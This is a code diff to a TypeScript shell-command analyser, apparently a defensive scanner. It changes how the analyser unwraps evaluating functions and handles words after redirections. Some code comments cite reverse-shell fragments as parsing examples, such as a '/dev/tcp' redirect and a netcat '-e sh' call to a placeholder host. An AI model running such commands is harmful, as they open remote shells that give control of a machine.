@@ -1,7 +1,7 @@
 import type { Node } from 'web-tree-sitter';
 import type { CommandView, InlineScript, NormalizationStep, Origin, Redirect, SimpleCommand } from './types.js';
 import { decodeEscapes } from './escapes.js';
-import { MAX_DECODED, decodeBase64Utf16, decodeHex, printf } from './decoders.js';
+import { MAX_DECODED, decodeBase64Utf16, decodeHex } from './decoders.js';
 import { INTERPRETERS, SHELLS, WRAPPERS, interpreterFamily, unwrap } from './wrappers.js';
 import { evaluatedCode, execStrings, stringLiterals } from './inline-code.js';
 import { fallbackStatements } from './fallback.js';
@@ -35,25 +35,10 @@ const MAX_NODE_DEPTH = 250;
 const MAX_LOOP_ITEMS = 8;
 const MAX_LOOP_WALKS = 32;
 const MAX_LOOP_BODY = 2048;
-/**
- * The words after a file redirection's destination, which the grammar keeps inside the redirection
- * (`2>/dev/null -exec grep … {} \;`) and bash reads as arguments of the command.
- */
-function wordsAfterDestination(r: Node): Node[] {
-  if (r.type !== 'file_redirect') return [];
-  const dest = r.childForFieldName('destination');
-  if (!dest) return [];
-  const out: Node[] = [];
-  for (const c of r.namedChildren) if (c && c.startIndex >= dest.endIndex && c.type !== 'file_descriptor') out.push(c);
-  return out;
-}
-
 /** Function bodies followed per call, and calls followed per line. */
 const MAX_FUNCTION_BODY = 4096;
 const MAX_INLINED_CALLS = 16;
 
-/** A function body that evaluates its arguments: `eval "$1"`, `eval "$(printf '%s' "$@")"`, `bash -c "$*"`. */
-const EVALUATING_BODY = /^[{(]\s*(?:eval|(?:ba|da|z|k)?sh\s+-c)\s+"?(?:\$[@*1]|\$\(printf\s+'%([sb])'\s+"?\$[@*1]"?\))"?\s*;?\s*[})]$/;
 const POWERSHELLS = new Set(['pwsh', 'powershell', 'pwsh.exe', 'powershell.exe']);
 /** PowerShell takes any unambiguous start of a parameter's name: -e, -ec, -enc … -encodedcommand. */
 const ENCODED_COMMAND = ['e', 'ec', ...Array.from({ length: 13 }, (_, n) => 'encodedcommand'.slice(0, n + 2))];
@@ -112,12 +97,7 @@ export class ViewBuilder {
   private readonly aliasMap = new Map<string, string>();
   /** Functions whose whole body runs their arguments (`g(){ "$@"; }`): calling one runs what follows its name. */
   private readonly runners = new Set<string>();
-  /**
-   * Functions whose whole body evaluates their arguments as shell text (`f(){ eval "$1"; }`, `f(){ bash -c "$*"; }`),
-   * with whether the body first decodes their escapes (`eval "$(printf '%b' "$1")"`).
-   */
-  private readonly evaluators = new Map<string, boolean>();
-  /** Other functions' bodies, run with a call's arguments in place of `$1`…, `"$@"` (withPositional). */
+  /** Other functions' bodies, run with a call's arguments in place of `$1`…, `"$@"` (withPositional): `f(){ eval "$1"; }` evaluates it. */
   private readonly functionBodies = new Map<string, string>();
   /** Set while walking a function's body, where `$1` is an argument not yet known rather than empty. */
   private inFunction = 0;
@@ -277,10 +257,7 @@ export class ViewBuilder {
         const name = node.childForFieldName('name');
         if (name) this.view.functions.push(name.text);
         const body = node.childForFieldName('body')?.text ?? '';
-        const head = body.slice(0, 64);
-        if (name && this.runners.size < 16 && /^[{(]\s*(?:exec\s+|command\s+)?"?\$[@*]"?\s*;?\s*[})]$/.test(head)) this.runners.add(name.text);
-        const evaluating = name && this.evaluators.size < 16 ? EVALUATING_BODY.exec(head) : null;
-        if (evaluating) this.evaluators.set(name!.text, evaluating[1] === 'b');
+        if (name && this.runners.size < 16 && /^[{(]\s*(?:exec\s+|command\s+)?"?\$[@*]"?\s*;?\s*[})]$/.test(body.slice(0, 64))) this.runners.add(name.text);
         else if (name && this.functionBodies.size < 16 && body.length <= MAX_FUNCTION_BODY) this.functionBodies.set(name.text, body.slice(1, -1));
         this.inFunction++;
         try {
@@ -358,7 +335,7 @@ export class ViewBuilder {
     const afterRedirect: Node[] = [];
     for (const r of node.childrenForFieldName('redirect')) {
       if (!r) continue;
-      afterRedirect.push(...wordsAfterDestination(r));
+      afterRedirect.push(...this.wordsAfterDestination(r));
       const made = this.redirect(r, ctx);
       // the grammar reads `cmd 0</p` as an argument `0` and a bare `<`; bash reads an fd redirect
       const glued = lastCommandNode(body)?.lastNamedChild ?? null;
@@ -579,8 +556,7 @@ export class ViewBuilder {
     // after a redirection (`cat a 2>/dev/null b`) that the grammar put inside the redirection's node
     const count = node.namedChildCount;
     const extra = [...(ctx.afterRedirect ?? [])];
-    const inner: Ctx = ctx.afterRedirect ? { ...ctx, afterRedirect: undefined } : ctx;
-    ctx = inner;
+    if (ctx.afterRedirect) ctx = { ...ctx, afterRedirect: undefined };
     for (let ci = 0; ci < count + extra.length; ci++) {
       const c = ci < count ? node.namedChild(ci) : extra[ci - count]!;
       if (!c) continue;
@@ -594,7 +570,7 @@ export class ViewBuilder {
       }
       if (c.type === 'file_redirect' || c.type === 'herestring_redirect' || c.type === 'heredoc_redirect') {
         redirects.push(...this.redirect(c, ctx));
-        if (extra.length < MAX_ARGS) extra.push(...wordsAfterDestination(c));
+        if (extra.length < MAX_ARGS) extra.push(...this.wordsAfterDestination(c));
         continue;
       }
       if (c.type === 'comment' || this.fdWords.has(c.startIndex)) continue;
@@ -705,13 +681,6 @@ export class ViewBuilder {
     }
     let name = baseName(words[0] ?? '');
     for (let guard = 0; guard < 16; guard++) {
-      if (this.evaluators.has(words[0]!) && words.length > 1) {
-        wrappers.push(name);
-        const text = this.evaluators.get(words[0]!) ? printf('%b', [words.slice(1).join(' ')]) : words.slice(1).join(' ');
-        this.step('unwrap', `${name} evaluates "${text}"`);
-        this.script(text, 'eval', ctx.depth + 1);
-        break;
-      }
       if ((name === 'busybox' || this.runners.has(words[0]!)) && words.length > 1) {
         wrappers.push(name);
         words = words.slice(1);
@@ -796,6 +765,28 @@ export class ViewBuilder {
     }
     this.recordWrite(cmd);
     return cmd;
+  }
+
+  /**
+   * The words after a file redirection's destination, which the grammar keeps inside the redirection
+   * (`2>/dev/null -exec grep … {} \;`) and bash reads as arguments of the command. Not a piece glued
+   * to what precedes it (the grammar splits `/dev/tcp/$1/$2` after the second `$`), and not a number
+   * right before `<` or `>`, which is the next redirection's descriptor (`>& /dev/tcp/h/p 0>&1`).
+   */
+  private wordsAfterDestination(r: Node): Node[] {
+    if (r.type !== 'file_redirect') return [];
+    const dest = r.childForFieldName('destination');
+    if (!dest) return [];
+    const out: Node[] = [];
+    let end = dest.endIndex;
+    for (const c of r.namedChildren) {
+      if (!c || c.startIndex < dest.endIndex || c.type === 'file_descriptor') continue;
+      const glued = c.startIndex === end;
+      end = c.endIndex;
+      if (glued || (c.type === 'number' && /[<>]/.test(this.source[c.endIndex] ?? ''))) continue;
+      out.push(c);
+    }
+    return out;
   }
 
   /** A call of a function defined in the line runs its body with the call's arguments: `_(){ nc $1 $2 -e sh; }; _ h 4444`. */
